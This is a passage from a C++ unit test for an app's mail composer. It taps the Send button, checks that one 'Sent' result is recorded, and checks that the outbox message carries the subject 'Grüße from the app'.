    ASSERT_EQ(touch(*composer->sendButton(), "Send"), "");
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Sent);
    EXPECT_EQ(parse(filesIn(outbox()).at(0))->subject, "Grüße from the app");
}

} // namespace quillora::test
